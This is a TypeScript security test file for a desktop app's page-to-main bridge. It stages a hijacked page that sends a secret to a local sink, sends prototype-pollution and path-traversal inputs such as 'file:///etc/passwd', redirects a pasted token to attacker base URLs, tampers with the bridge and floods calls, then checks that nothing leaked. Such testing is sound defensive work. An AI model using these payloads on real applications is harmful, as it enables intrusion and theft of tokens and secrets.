import { calls } from '#shared/contract'
import { below, pick } from '#demo/prng'
import { runtimeKind } from '../../support/app-driver/index'
import { wayOutHelpers, waysOut, waysOutByWebRtc } from '../../support/ways-out'
import { type Desk, inPage, openDesk } from './desk'
import type { Attack, Attacks, Setting } from './setting'

// Milliseconds that a way out may take.
const wayMs = 400

/** Does what an attacker does in the page, then looks whether main is as it was and what has left. */
const onDesk =
  (act: (desk: Desk, setting: Setting) => Promise<void>): Attack =>
  async (setting) => {
    const { judge, lane } = setting
    const desk = await openDesk(setting)
    try {
      for (let round = 0; round < 3; round += 1) await act(desk, setting)
      const alive = (await inPage(desk.page, `return (await call('app.info', {})).ok`)) as boolean
      judge.claim(alive, 'main answers no more')
      judge.claim(
        await desk.app.evaluate(() => !('isAdmin' in {})),
        'the page has put a name into every object of main',
      )
      judge.claim(
        lane.demo.state.keys(lane.projectId).some(({ apikey_id: id }) => id === lane.keys.old),
        'the page has revoked a key without its name',
      )
    } finally {
      await desk.app.close()
    }
    judge.search('the output', desk.app.output())
    judge.search('the dialogs', JSON.stringify(desk.app.asked()))
  }

const encodings = ['secret', 'btoa(secret)', 'encodeURIComponent(secret)', '[...secret].reverse().join("")']

const wayOut = (ways: Readonly<Record<string, string>>): Attack =>
  onDesk(async ({ page }, { random, lane }) => {
    const script = pick(random, Object.values(ways)).replaceAll('HOST', `127.0.0.1:${lane.sink.port}`)
    const encoded = pick(random, encodings)
    // The scripts hold the word in strings of either kind: it is put there before they are run.
    await inPage(
      page,
      `const secret = window.secret
       const script = ${JSON.stringify(script)}.replaceAll('SECRET', ${encoded})
       ${wayOutHelpers.replace('const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms))', '')}
       const Async = (async () => {}).constructor
       let run
       try { run = new Async('add', 'later', 'peer', script) } catch { return }
       await Promise.race([later(${wayMs}), run(add, later, peer).catch(() => {})])`,
    ).catch(() => {})
  })

const names = Object.keys(calls).filter((name) => !/^(app\.(quit|restart)|updates\.)/u.test(name))

const oddInput = (random: () => number): string =>
  pick(random, [
    'undefined',
    'null',
    '7n',
    '"x".repeat(3_000_000)',
    'Array.from({ length: 200_000 }, () => 0)',
    '(() => { let deep = 1; for (let level = 0; level < 2_000; level += 1) deep = [deep]; return deep })()',
    '(() => { const circle = {}; circle.circle = circle; return circle })()',
    `JSON.parse('{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}')`,
    'Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => ["field" + index, index]))',
    '{ workspaceId: window.workspaceId, projectId: 1, keyId: "../x", typedName: "x" }',
    '{ workspaceId: "../../..", name: "x" }',
    '{ handoffId: crypto.randomUUID(), format: "__proto__", force: true }',
    '{ page: "file:///etc/passwd" }',
    '{ get workspaceId() { return window.workspaceId } }',
    'new Proxy({}, { get: () => "x", ownKeys: () => ["a"] })',
    'new Map([["__proto__", {}]])',
    'new Date(NaN)',
    'new Uint8Array(100_000)',
    '"\\u0000\\ud800"',
    '{ settings: { proxy: { kind: "manual", address: "http://127.0.0.1:1" } } }',
  ])

/** A page that an attacker has taken over, with a value in it. */
export const pageAttacks = (): Attacks => ({
  'one way out after the other': wayOut(waysOut),
  // The stand-in cannot give one page a WebRTC policy.
  ...(runtimeKind() === 'electron' && { 'a way out by WebRTC': wayOut(waysOutByWebRtc) }),
  'malformed and oversized calls': onDesk(async ({ page }, { random, judge }) => {
    const asked = Array.from({ length: 12 }, () => [pick(random, names), oddInput(random)])
    const replies = await inPage(
      page,
      `const replies = []
       for (const [name, make] of [${asked.map(([name, input]) => `[${JSON.stringify(name)}, () => (${input})]`).join(', ')}])
         try { replies.push([name, await Promise.race([call(name, make()), later(3_000)])]) } catch {}
       return JSON.stringify(replies)`,
    )
    judge.search('the replies to malformed calls', String(replies))
  }),
  'a flood of calls': onDesk(async ({ page }, { random }) => {
    const name = pick(random, [
      'app.info',
      'workspaces.list',
      'tokens.paste',
      'audit.list',
      'keys.list',
      'handoff.list',
    ])
    const count = pick(random, [500, 3_000])
    await inPage(
      page,
      `await Promise.allSettled(Array.from({ length: ${count} }, () => call(${JSON.stringify(name)}, {})))`,
    )
  }),
  'another address for the token': onDesk(async ({ page, app }, { lane, canaries }) => {
    await app.evaluate(({ clipboard }, text) => clipboard.writeText(text), canaries.token)
    await inPage(
      page,
      `const draft = await call('tokens.paste', {})
       for (const baseUrl of ['http://localhost.invalid:${lane.sink.port}/v1', 'http://127.0.0.1.nip.invalid:${lane.sink.port}/v1', 'https://127.0.0.1:${lane.sink.port}/v1', 'http://0.0.0.0:${lane.sink.port}/v1', 'http://user:pass@127.0.0.1:${lane.sink.port}/v1'])
         await call('workspaces.add', { name: 'Evil', baseUrl, tokenDraftId: draft.value?.tokenDraftId })`,
    )
  }),
  'a bridge made over': onDesk(async ({ page }, { random, judge }) => {
    const index = below(random, 6)
    const found = await inPage(
      page,
      `const tries = [
         () => { keydesk.calls['app.info'] = () => 1 },
         () => Object.defineProperty(window, 'keydesk', { value: {} }),
         () => { Object.prototype.isAdmin = true; Array.prototype.then = () => {}; delete Array.prototype.then; delete Object.prototype.isAdmin },
         () => Object.setPrototypeOf(keydesk.calls, { evil: 1 }),
         () => { Function.prototype.call = () => 1 },
         () => { const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.keydesk?.calls },
       ]
       try { tries[${index}]() } catch {}
       return [typeof keydesk.calls['app.info'], typeof require, typeof process].join()`,
    )
    judge.claim(found === 'function,undefined,undefined', `the bridge is another: ${JSON.stringify(found)}`)
  }),
  'what a page leaves behind': onDesk(async ({ page }, { random }) => {
    const way = pick(random, [
      `localStorage.setItem('a', window.secret); sessionStorage.setItem('a', window.secret)`,
      `document.cookie = 'a=' + window.secret + '; max-age=99999'`,
      `indexedDB.open(window.secret)`,
      `await (await caches.open('a')).put('/a', new Response(window.secret))`,
      `const file = await (await navigator.storage.getDirectory()).getFileHandle('a', { create: true }); const out = await file.createWritable(); await out.write(window.secret); await out.close()`,
      `history.pushState({}, '', '/' + window.secret); document.title = window.secret`,
      `console.log(window.secret); console.error(new Error(window.secret))`,
      `performance.mark(window.secret); window.name = window.secret`,
      `setTimeout(() => { throw new Error(window.secret) }); Promise.reject(window.secret)`,
    ])
    await inPage(page, `try { ${way} } catch {}; await later(100)`)
  }),
})
